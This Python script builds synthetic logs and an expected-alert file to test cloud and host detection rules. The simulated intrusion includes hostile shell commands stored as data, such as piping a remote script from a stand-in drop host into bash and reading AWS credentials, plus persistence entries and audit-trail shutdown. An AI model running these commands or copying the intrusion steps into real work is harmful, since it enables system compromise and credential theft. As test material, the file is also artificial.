#!/usr/bin/env python3
"""Writes logs/ and expected.json: two hours of an invented company's Thursday, the same at every run.

Between people at work, machines that talk to each other and the background noise of the internet hides one
attacker: 203.0.113.66 guesses a password over SSH, plants a way back, finds an AWS key on the machine, makes itself
another user, opens a firewall, switches the trail off, and uploads what it found. Every event that a rule must
notice is planted with the names of these rules, and expected.json counts them.

Addresses are from the ranges for documentation (RFC 5737), names and accounts are invented.
"""
import collections
import datetime
import gzip
import io
import json
import pathlib
import random
import shutil
import uuid

HERE = pathlib.Path(__file__).resolve().parent
LOGS = HERE / 'logs'
START = datetime.datetime(2026, 3, 12, 8, 0, 0)
ACCOUNT = '123456789012'
REGION = 'eu-west-1'
OFFICE = ['198.51.100.2', '198.51.100.3', '198.51.100.6']
ATTACKER = '203.0.113.66'
DROP_SITE = '203.0.113.80'
BACKUP = '192.0.2.200'
WEB_1, WEB_2, DB_1 = '10.0.1.11', '10.0.1.12', '10.0.2.21'
HOSTS = {'web-1': WEB_1, 'web-2': WEB_2, 'db-1': DB_1}
USERS = ['kim', 'noor', 'sam']
STOLEN_KEY = 'AKIAEXAMPLESTOLEN001'

# Rules whose alerts wait for others with the same keys: each group is delivered once.
MERGED_BY = {
    'aws_denied_from_outside': 'accessKeyId',
    'host_persistence': 'hostIdentifier',
    'host_unexpected_listener': 'hostIdentifier',
    'ssh_failed_passwords': 'host, application',
    'vpc_admin_port_probe': 'source',
    'vpc_large_upload': 'source, destination',
}
OUTPUTS = {
    'aws_root_console_login': ['file:alerts', 'file:urgent'],
    'aws_trail_stopped': ['file:alerts', 'file:urgent'],
    'aws_security_group_open_to_the_world': ['file:alerts', 'file:urgent'],
    'ssh_password_login_from_outside': ['file:alerts', 'file:urgent'],
    'vpc_large_upload': ['file:alerts', 'file:urgent'],
}

dice = random.Random(20260312)


class Story:
    """Events by stream, each at its second, and the rules that must fire on them."""

    def __init__(self):
        self.events = collections.defaultdict(list)
        self.alerts = collections.Counter()
        self.groups = collections.defaultdict(set)

    def add(self, stream, second, event, *rules, group=None):
        """Plants an event `second` seconds after the start; `group` is what the rules' merge keys have in common."""
        self.events[stream].append((second, len(self.events[stream]), event))
        for rule in rules:
            self.alerts[rule] += 1
            if rule in MERGED_BY:
                self.groups[rule].add(group)

    def of(self, stream):
        return [(second, event) for second, _, event in sorted(self.events[stream], key=lambda e: e[:2])]


def at(second):
    return START + datetime.timedelta(seconds=second)


def iso(second):
    return at(second).strftime('%Y-%m-%dT%H:%M:%SZ')


def unix(second):
    return int(at(second).replace(tzinfo=datetime.timezone.utc).timestamp())


def an_id():
    return str(uuid.UUID(int=dice.getrandbits(128), version=4))


# --- CloudTrail ---------------------------------------------------------------------------------------------------

def user(name, key=None):
    identity = {
        'type': 'IAMUser', 'principalId': 'AIDAEXAMPLE' + name.upper(), 'accountId': ACCOUNT,
        'arn': 'arn:aws:iam::%s:user/%s' % (ACCOUNT, name), 'userName': name,
    }
    if key:
        identity['accessKeyId'] = key
    return identity


def role(name, session):
    return {
        'type': 'AssumedRole', 'principalId': 'AROAEXAMPLE%s:%s' % (name.upper(), session), 'accountId': ACCOUNT,
        'arn': 'arn:aws:sts::%s:assumed-role/%s/%s' % (ACCOUNT, name, session),
        'accessKeyId': 'ASIAEXAMPLE' + name.upper(),
        'sessionContext': {
            'sessionIssuer': {
                'type': 'Role', 'principalId': 'AROAEXAMPLE' + name.upper(), 'accountId': ACCOUNT,
                'arn': 'arn:aws:iam::%s:role/%s' % (ACCOUNT, name), 'userName': name,
            },
            'attributes': {'creationDate': iso(0), 'mfaAuthenticated': 'false'},
        },
    }


def call(second, identity, service, name, address, agent, request=None, response=None, **more):
    """One API call as CloudTrail writes it in 2026, which is more than StreamAlert knew of."""
    host = '%s.%s.amazonaws.com' % (service, REGION)
    event = {
        'eventVersion': '1.11', 'userIdentity': identity, 'eventTime': iso(second),
        'eventSource': service + '.amazonaws.com', 'eventName': name, 'awsRegion': REGION,
        'sourceIPAddress': address, 'userAgent': agent, 'requestParameters': request, 'responseElements': response,
        'requestID': an_id(), 'eventID': an_id(), 'readOnly': name.startswith(('Get', 'List', 'Describe')),
        'eventType': 'AwsApiCall', 'managementEvent': True, 'recipientAccountId': ACCOUNT,
        'eventCategory': 'Management',
        'tlsDetails': {
            'tlsVersion': 'TLSv1.3', 'cipherSuite': 'TLS_AES_128_GCM_SHA256', 'clientProvidedHostHeader': host,
        },
    }
    event.update(more)
    return event


def console_login(second, identity, address, mfa, result='Success'):
    event = call(
        second, identity, 'signin', 'ConsoleLogin', address,
        'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', None, {'ConsoleLogin': result},
        additionalEventData={
            'LoginTo': 'https://console.aws.amazon.com/console/home', 'MobileVersion': 'No', 'MFAUsed': mfa,
        },
        eventType='AwsConsoleSignIn')
    if result != 'Success':
        event['errorMessage'] = 'Failed authentication'
    return event


def ingress(second, identity, address, agent, port, to_port, cidr):
    permission = {
        'ipProtocol': 'tcp', 'fromPort': port, 'toPort': to_port, 'groups': {},
        'ipRanges': {'items': [{'cidrIp': cidr}]}, 'ipv6Ranges': {}, 'prefixListIds': {},
    }
    request = {'groupId': 'sg-0123456789abcdef0', 'ipPermissions': {'items': [permission]}}
    return call(second, identity, 'ec2', 'AuthorizeSecurityGroupIngress', address, agent, request, {'_return': True})


TERRAFORM = 'APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io)'
CLI = 'aws-cli/2.17.0 md/awscrt#0.20.11 ua/2.0 os/linux#6.1 md/arch#x86_64 lang/python#3.11'
SDK = 'Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1 md/arch#x86_64 lang/python#3.11'


def everyday_aws(story):
    reads = [
        ('ec2', 'DescribeInstances'), ('ec2', 'DescribeVolumes'), ('s3', 'GetBucketLocation'), ('iam', 'ListUsers'),
        ('sts', 'GetCallerIdentity'), ('logs', 'DescribeLogGroups'), ('elasticloadbalancing', 'DescribeTargetHealth'),
        ('cloudwatch', 'GetMetricData'), ('ecr', 'GetAuthorizationToken'), ('ssm', 'GetParameter'),
    ]
    for _ in range(110):
        second = dice.randrange(0, 7200)
        service, name = dice.choice(reads)
        if dice.random() < 0.6:
            session = dice.choice(['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2'])
            event = call(second, role('web', session), service, name, dice.choice([WEB_1, WEB_2]), SDK)
        else:
            name_of = dice.choice(USERS)
            key = 'AKIAEXAMPLE' + name_of.upper()
            event = call(second, user(name_of, key), service, name, dice.choice(OFFICE), CLI)
        story.add('cloudtrail', second, event)
    for second in range(300, 7200, 900):
        story.add('cloudtrail', second, call(
            second, {'type': 'AWSService', 'invokedBy': 'ec2.amazonaws.com'}, 'sts', 'AssumeRole',
            'ec2.amazonaws.com', 'ec2.amazonaws.com',
            {'roleArn': 'arn:aws:iam::%s:role/web' % ACCOUNT, 'roleSessionName': 'i-0aaaaaaaaaaaaaaa1'},
            {'credentials': {'accessKeyId': 'ASIAEXAMPLEWEB', 'expiration': iso(second + 21600)}},
            sharedEventID=an_id()))
    for second, name in ((410, 'kim'), (905, 'noor'), (1320, 'sam')):
        story.add('cloudtrail', second, console_login(second, user(name), OFFICE[0], 'Yes'))
    # Nearly, but not quite, what the rules look for.
    kim, noor = user('kim', 'AKIAEXAMPLEKIM'), user('noor', 'AKIAEXAMPLENOOR')
    story.add('cloudtrail', 880, console_login(880, user('noor'), OFFICE[1], 'Yes', 'Failure'))
    story.add('cloudtrail', 1500, call(
        1500, kim, 'iam', 'CreateAccessKey', OFFICE[0], CLI, None,
        {'accessKey': {'userName': 'kim', 'accessKeyId': 'AKIAEXAMPLEKIM2', 'status': 'Active'}}))
    story.add('cloudtrail', 2100, ingress(2100, role('deploy', 'terraform'), OFFICE[2], TERRAFORM, 443, 443, '0.0.0.0/0'))
    story.add('cloudtrail', 2130, ingress(2130, role('deploy', 'terraform'), OFFICE[2], TERRAFORM, 5432, 5432, '10.0.0.0/8'))
    story.add('cloudtrail', 2400, call(
        2400, noor, 's3', 'GetBucketPolicy', OFFICE[1], CLI, {'bucketName': 'quickstart-payroll'},
        errorCode='AccessDenied', errorMessage='Access Denied'))
    story.add('cloudtrail', 6900, call(
        6900, noor, 'cloudtrail', 'DescribeTrails', OFFICE[1], CLI, {'trailNameList': []}))


def stolen_key(story):
    thief = user('backup', STOLEN_KEY)
    denied = [
        ('iam', 'ListUsers'), ('iam', 'ListRoles'), ('secretsmanager', 'ListSecrets'), ('s3', 'ListBuckets'),
        ('ec2', 'DescribeSnapshots'), ('rds', 'DescribeDBInstances'), ('kms', 'ListKeys'), ('lambda', 'ListFunctions'),
        ('organizations', 'DescribeOrganization'),
    ]
    story.add('cloudtrail', 3720, call(3720, thief, 'sts', 'GetCallerIdentity', ATTACKER, CLI))
    for index, (service, name) in enumerate(denied):
        second = 3728 + 4 * index
        story.add('cloudtrail', second, call(
            second, thief, service, name, ATTACKER, CLI, None, None, errorCode='AccessDenied',
            errorMessage='User: %s is not authorized to perform: %s:%s' % (thief['arn'], service, name)),
            'aws_denied_from_outside', group=STOLEN_KEY)
    for second, name in ((3790, 'kim'), (3801, 'sam')):
        story.add('cloudtrail', second, call(
            second, thief, 'iam', 'CreateAccessKey', ATTACKER, CLI, {'userName': name},
            {'accessKey': {'userName': name, 'accessKeyId': 'AKIAEXAMPLENEW' + name.upper(), 'status': 'Active'}}),
            'aws_access_key_for_another_user')
    story.add('cloudtrail', 3840, call(
        3840, user('kim', 'AKIAEXAMPLENEWKIM'), 'iam', 'UpdateLoginProfile', ATTACKER, CLI, {'userName': 'kim'}))
    story.add('cloudtrail', 3902, console_login(3902, user('kim'), ATTACKER, 'No'), 'aws_console_login_without_mfa')
    thief = user('kim', 'AKIAEXAMPLENEWKIM')
    story.add('cloudtrail', 3960, call(
        3960, thief, 'cloudtrail', 'StopLogging', ATTACKER, CLI, {'name': 'main'},
        errorCode='AccessDenied', errorMessage='User: %s is not authorized' % thief['arn']),
        'aws_denied_from_outside', group='AKIAEXAMPLENEWKIM')
    root = {
        'type': 'Root', 'principalId': ACCOUNT, 'accountId': ACCOUNT, 'arn': 'arn:aws:iam::%s:root' % ACCOUNT,
        'accessKeyId': '',
    }
    story.add('cloudtrail', 4380, console_login(4380, root, ATTACKER, 'Yes'), 'aws_root_console_login')
    story.add('cloudtrail', 4421, call(
        4421, root, 'cloudtrail', 'StopLogging', ATTACKER, 'AWS Internal',
        {'name': 'arn:aws:cloudtrail:%s:%s:trail/main' % (REGION, ACCOUNT)}), 'aws_trail_stopped')
    for second, port, cidr in ((4470, 22, '0.0.0.0/0'), (4483, 3389, '0.0.0.0/0')):
        story.add('cloudtrail', second, ingress(second, root, ATTACKER, 'AWS Internal', port, port, cidr),
                  'aws_security_group_open_to_the_world')


# --- VPC flow logs, as CloudWatch Logs sends them to a stream ------------------------------------------------------

FIELDS = ['version', 'account', 'eni', 'source', 'destination', 'srcport', 'destport', 'protocol', 'packets', 'bytes',
          'windowstart', 'windowend', 'action', 'flowlogstatus']


def flow(second, source, destination, srcport, destport, packets, size, action='ACCEPT', protocol=6):
    machine = next(ip for ip in (source, destination) if ip.startswith('10.'))
    eni = 'eni-0bbbbbbbbbbbbb0' + machine.rsplit('.', 1)[-1]
    start = unix(second) // 60 * 60
    return [2, ACCOUNT, eni, source, destination, srcport, destport, protocol, packets, size, start, start + 60,
            action, 'OK']


def everyday_traffic(story):
    scanners = ['192.0.2.%d' % last for last in (14, 51, 77, 103, 140)]
    for _ in range(150):
        second = dice.randrange(0, 7200)
        high = dice.randrange(32768, 61000)
        packets = dice.randrange(6, 400)
        pick = dice.random()
        if pick < 0.35:
            client = '198.51.100.%d' % dice.randrange(20, 250)
            event = flow(second, client, dice.choice([WEB_1, WEB_2]), high, 443, packets, packets * 140)
        elif pick < 0.6:
            event = flow(second, dice.choice([WEB_1, WEB_2]), DB_1, high, 5432, packets, packets * 210)
        elif pick < 0.75:
            event = flow(second, dice.choice(OFFICE), dice.choice(list(HOSTS.values())), high, 22, packets, packets * 90)
        else:
            port = dice.choice([23, 81, 445, 2323, 5060, 8088])
            event = flow(second, dice.choice(scanners), dice.choice(list(HOSTS.values())), high, port, 1, 40, 'REJECT')
        story.add('flow', second, event)
    for second in (1800, 5400):
        story.add('flow', second, flow(second, DB_1, BACKUP, 40111, 443, 91000, 130 * 1024 * 1024))
    for second in range(600, 7200, 1200):
        empty = [2, ACCOUNT, 'eni-0bbbbbbbbbbbbb099'] + ['-'] * 7 + [unix(second), unix(second) + 60, '-', 'NODATA']
        story.add('flow', second, empty)


def attack_traffic(story):
    second = 2220
    for machine in (WEB_1, WEB_2, DB_1):
        for port in (3389, 6379, 9200, 5432):
            story.add('flow', second, flow(second, ATTACKER, machine, 50000 + port, port, 1, 44, 'REJECT'),
                      'vpc_admin_port_probe', group=ATTACKER)
            second += 3
    for minute in range(40, 47):
        story.add('flow', 60 * minute, flow(60 * minute, ATTACKER, WEB_1, 51000 + minute, 22, 60, 9000))
    for minute in (84, 85, 86):
        story.add('flow', 60 * minute, flow(60 * minute, WEB_1, DROP_SITE, 43210, 443, 72000, 100 * 1024 * 1024 + minute),
                  'vpc_large_upload', group=(WEB_1, DROP_SITE))
    story.add('flow', 87 * 60, flow(87 * 60, WEB_1, DROP_SITE, 43210, 443, 2300, 3 * 1024 * 1024))


# --- osquery and syslog, from the machines themselves --------------------------------------------------------------

def osquery(second, host, name, **more):
    line = {
        'name': 'pack/quickstart/' + name, 'hostIdentifier': host + '.example.com',
        'calendarTime': at(second).strftime('%a %b %d %H:%M:%S %Y UTC'), 'unixTime': unix(second), 'epoch': 0,
        'counter': second // 60, 'numerics': False, 'decorations': {'hostname': host, 'environment': 'production'},
    }
    line.update(more)
    return json.dumps(line)


def differential(second, host, name, columns, action='added'):
    return osquery(second, host, name, columns=columns, action=action)


def listeners(second, host, *ports):
    rows = [{'address': address, 'port': str(port), 'protocol': '6', 'process': process}
            for address, port, process in ports]
    return osquery(second, host, 'listening_ports', snapshot=rows, action='snapshot')


def everyday_hosts(story):
    commands = ['ls -la /srv', 'df -h', 'journalctl -u nginx --since today', 'sudo systemctl reload nginx', 'htop',
                'curl -s https://status.example.com/health', 'tail -f /var/log/nginx/access.log', 'git -C /srv/app log -1']
    for _ in range(40):
        second = dice.randrange(0, 7200)
        host = dice.choice(list(HOSTS))
        if dice.random() < 0.5:
            columns = {'uid': '1000', 'command': dice.choice(commands), 'time': str(unix(second) - 30),
                       'history_file': '/home/ops/.bash_history'}
            story.add('osquery', second, differential(second, host, 'shell_history', columns))
        else:
            columns = {'pid': str(dice.randrange(800, 30000)), 'name': dice.choice(['nginx', 'postgres', 'php-fpm']),
                       'path': '/usr/sbin/nginx', 'on_disk': '1'}
            action = dice.choice(['added', 'removed'])
            story.add('osquery', second, differential(second, host, 'processes', columns, action))
    for second in range(600, 7200, 1800):
        for host in HOSTS:
            ports = [('0.0.0.0', 22, 'sshd'), ('0.0.0.0', 443 if host != 'db-1' else 9100, 'nginx'),
                     ('127.0.0.1', 8125, 'statsd')]
            rules = []
            if host == 'web-1' and second > 3000:
                ports.append(('0.0.0.0', 4444, 'kworkerd'))
                rules = ['host_unexpected_listener']
            story.add('osquery', second, listeners(second, host, *ports), *rules, group='web-1')
    managed = {'path': '/etc/cron.d/managed-logrotate', 'command': '/usr/sbin/logrotate', 'minute': '15', 'hour': '3'}
    story.add('osquery', 1260, differential(1260, 'web-2', 'crontab', managed))
    old = {'uid': '1003', 'key_file': '/home/old/.ssh/authorized_keys', 'algorithm': 'ssh-rsa'}
    story.add('osquery', 1290, differential(1290, 'web-2', 'authorized_keys', old, 'removed'))
    people = ['ops', 'deploy']
    for _ in range(50):
        second = dice.randrange(0, 7200)
        host = dice.choice(list(HOSTS))
        pid = dice.randrange(800, 30000)
        address = dice.choice(OFFICE)
        line = dice.choice([
            'sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:example'
            % (pid, dice.choice(people), address, dice.randrange(40000, 60000)),
            'CRON[%d]: (root) CMD (/usr/local/bin/rotate)' % pid,
            'systemd[1]: Started Daily apt download activities.',
            'nginx[%d]: 10.0.0.5 - GET /health 200' % pid,
            'postgres[%d]: LOG:  checkpoint complete: wrote 42 buffers' % pid,
            'sudo[%d]: ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/bin/systemctl reload nginx' % pid,
        ])
        story.add('syslog', second, syslog(second, host, line))
    for second in (1005, 1011):
        story.add('syslog', second, syslog(
            second, 'web-2', 'sshd[2210]: Failed password for ops from %s port 41822 ssh2' % OFFICE[1]))


def syslog(second, host, line):
    return '%s %s %s' % (at(second).strftime('%b %d %H:%M:%S'), host, line)


def attack_on_web_1(story):
    guesses = ['admin', 'root', 'test', 'ubuntu', 'oracle', 'deploy', 'git', 'postgres', 'ops', 'backup', 'www', 'deploy']
    for index in range(24):
        second = 2410 + 16 * index
        name = guesses[index % len(guesses)]
        known = '' if name in ('root', 'deploy', 'ops', 'backup', 'postgres') else 'invalid user '
        story.add('syslog', second, syslog(
            second, 'web-1', 'sshd[%d]: Failed password for %s%s from %s port %d ssh2'
            % (9000 + index, known, name, ATTACKER, 51000 + index)), 'ssh_failed_passwords', group='web-1 sshd')
    story.add('syslog', 2806, syslog(
        2806, 'web-1', 'sshd[9031]: Accepted password for deploy from %s port 51046 ssh2' % ATTACKER),
        'ssh_password_login_from_outside')
    history = '/home/deploy/.bash_history'
    for second, command, rules in (
            (2840, 'id; uname -a', []),
            (2863, 'curl -fsSL http://%s/i.sh | bash' % DROP_SITE, ['host_download_into_shell']),
            (2951, 'cat ~/.aws/credentials', []),
            (5010, 'tar czf /tmp/.k.tgz /srv/app/exports', [])):
        columns = {'uid': '1002', 'command': command, 'time': str(unix(second)), 'history_file': history}
        story.add('osquery', second + 20, differential(second + 20, 'web-1', 'shell_history', columns), *rules)
    for second, name, columns in (
            (2905, 'crontab', {'path': '/var/spool/cron/crontabs/deploy', 'command': '/tmp/.x/kworkerd', 'minute': '*/5'}),
            (2911, 'authorized_keys', {'uid': '1002', 'key_file': '/home/deploy/.ssh/authorized_keys', 'algorithm': 'ssh-ed25519'}),
            (2930, 'systemd_units', {'id': 'kworkerd.service', 'fragment_path': '/etc/systemd/system/kworkerd.service'})):
        story.add('osquery', second, differential(second, 'web-1', name, columns), 'host_persistence', group='web-1')


# Lines that no schema takes; they end as dead letters with the nearest schema and the difference.
DEAD_LETTERS = [
    ('syslog', 2807, syslog(2807, 'web-1', 'systemd-logind[611]: New session 12 of user deploy.')),
    ('osquery', 4000, '{"name": "pack/quickstart/processes", "hostIdentifier": "db-1.example.com", "calendarTime": "Thu Ma'),
    ('osquery', 6200, '{"level": "info", "msg": "agent restarted", "host": "web-2"}'),
]


# --- files ---------------------------------------------------------------------------------------------------------

def write_cloudtrail(events):
    """An object for every half hour, named and packed as CloudTrail delivers it; the first one unpacked, to look at."""
    for index in range(4):
        records = [event for second, event in events if second // 1800 == index]
        text = json.dumps({'Records': records}, separators=(',', ':'))
        stamp = at(1800 * (index + 1)).strftime('%Y%m%dT%H%MZ')
        path = LOGS / 'cloudtrail' / ('%s_CloudTrail_%s_%s_quickstart%04d.json' % (ACCOUNT, REGION, stamp, index + 1))
        path.parent.mkdir(parents=True, exist_ok=True)
        if index == 0:
            path.write_text(text)
            continue
        packed = io.BytesIO()
        with gzip.GzipFile(filename='', mode='wb', fileobj=packed, mtime=0) as archive:
            archive.write(text.encode())
        path.with_name(path.name + '.gz').write_bytes(packed.getvalue())


def write_flow(events):
    """Subscription messages with up to eight events of one network interface each, one message a line."""
    by_eni = collections.OrderedDict()
    lines = []

    def emit(eni):
        log_events = []
        for second, values in by_eni.pop(eni):
            log_events.append({
                'id': '%056d' % dice.getrandbits(180), 'timestamp': unix(second) * 1000,
                'message': ' '.join(str(value) for value in values),
                'extractedFields': {field: str(value) for field, value in zip(FIELDS, values)},
            })
        lines.append(json.dumps({
            'messageType': 'DATA_MESSAGE', 'owner': ACCOUNT, 'logGroup': 'vpc/flow', 'logStream': eni + '-all',
            'subscriptionFilters': ['to-streamalert'], 'logEvents': log_events,
        }, separators=(',', ':')))

    for second, values in events:
        by_eni.setdefault(values[2], []).append((second, values))
        if len(by_eni[values[2]]) == 8:
            emit(values[2])
    for eni in list(by_eni):
        emit(eni)
    path = LOGS / 'flow' / 'flow.jsonl'
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('\n'.join(lines) + '\n')


def write_lines(name, events):
    path = LOGS / 'hosts' / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('\n'.join(line for _, line in events) + '\n')


def expected(story):
    """What comes of the logs. A merged rule's alerts each go to the history; each group goes there, too, and to its
    outputs."""
    osquery_lines = [json.loads(line) for _, line in story.of('osquery') if line not in {d[2] for d in DEAD_LETTERS}]
    snapshots = sum('snapshot' in line for line in osquery_lines)
    syslog_dead = sum(stream == 'syslog' for stream, _, _ in DEAD_LETTERS)
    history = sum(story.alerts.values()) + sum(len(groups) for groups in story.groups.values())
    deliveries = collections.Counter({'aws-firehose:alerts': history})
    for rule, count in story.alerts.items():
        for output in OUTPUTS.get(rule, ['file:alerts']):
            deliveries[output] += len(story.groups[rule]) if rule in MERGED_BY else count
    return {
        'records': {
            'cloudtrail:events': len(story.of('cloudtrail')),
            'cloudwatch:flow_logs': len(story.of('flow')),
            'osquery:differential': len(osquery_lines) - snapshots,
            'osquery:snapshot': snapshots,
            'syslog:linux': len(story.of('syslog')) - syslog_dead,
        },
        'dead_letters': len(DEAD_LETTERS),
        'alerts': dict(sorted(story.alerts.items())),
        'merged_alerts': {rule: len(groups) for rule, groups in sorted(story.groups.items())},
        'deliveries': dict(sorted(deliveries.items())),
    }


def main():
    story = Story()
    for chapter in (everyday_aws, everyday_traffic, everyday_hosts, stolen_key, attack_traffic, attack_on_web_1):
        chapter(story)
    for stream, second, line in DEAD_LETTERS:
        story.add(stream, second, line)
    shutil.rmtree(str(LOGS), ignore_errors=True)
    write_cloudtrail(story.of('cloudtrail'))
    write_flow(story.of('flow'))
    write_lines('osquery.log', story.of('osquery'))
    write_lines('syslog.log', story.of('syslog'))
    (HERE / 'expected.json').write_text(json.dumps(expected(story), indent=2) + '\n')


if __name__ == '__main__':
    main()
